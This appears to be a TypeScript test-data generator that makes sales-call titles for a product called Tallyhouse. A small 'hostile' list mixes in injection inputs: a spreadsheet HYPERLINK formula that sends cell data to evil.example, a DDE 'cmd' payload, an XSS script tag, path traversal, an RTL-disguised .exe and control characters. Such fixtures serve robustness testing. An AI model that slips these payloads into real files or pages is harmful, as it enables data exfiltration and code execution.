import { SeededRandom } from '../seeded-random.ts'
import type { CallKind } from './call-kind.ts'

const USUAL_TITLES: Readonly<Record<CallKind, readonly string[]>> = {
  discovery: ['{a} <> Tallyhouse | Intro', 'First call with {a}', '{a} / Tallyhouse: discovery', 'Intro'],
  demo: ['Demo: {a}', 'Tallyhouse demo for {a}', '{a} | Product walk-through', 'Demo', '{a} "deep dive"'],
  pricing: ['{a} / commercial terms', 'Pricing call: {a}', 'Quote review | {a}', 'Budget?'],
  security: ['{a}: security & IT review', 'Security questionnaire / {a}', 'Connector: how it works <IT>'],
  renewal: ['{a} quarterly review', 'Renewal {a}', 'Check-in', '{a} x Tallyhouse QBR'],
  team: ['Weekly pipeline review', 'Forecast call', 'Deal desk', '1:1'],
}

/** What a terminal, a spreadsheet, a file name or a table could stumble over. */
const HOSTILE_TITLES = [
  'Demo \u001b[31mRED ALERT\u001b[0m {a}',
  '=HYPERLINK("https://evil.example/?x="&A1,"{a}")',
  '+1+cmd|/C calc!A0',
  '@SUM(1+1)*{a}',
  '-2+3 {a}',
  'invoice \u202egpj.exe {a}',
  'Kick-off 🚀🔥 {a} 👩🏽‍💻',
  '株式会社{a}様 商談（第二回）・見積もり確認',
  'مكالمة مع {a} / العرض',
  'two\nlines: {a}',
  'tab\there {a}',
  '<script>alert("{a}")</script>',
  'C:\\calls\\*?<>:"/| {a}',
  '../../etc/{a}',
  'bell\u0007 and\u0000nul {a}',
  '  ',
  'Z̸̢͇a̷l̶g̵o̴ {a}',
] as const

/** The title of call `index`: 3 in 100 hostile, 1 in 100 very long, the usual ones often alike on one day. */
export function callTitle(seed: number, index: number, kind: CallKind, account: string): string {
  const random = new SeededRandom(seed, 'title', index)
  const text = random.pick(random.bool(0.03) ? HOSTILE_TITLES : USUAL_TITLES[kind]).replace('{a}', account)
  return random.bool(0.01) ? `${text}, ${'with everyone who asked to be invited, '.repeat(20)}and minutes` : text
}
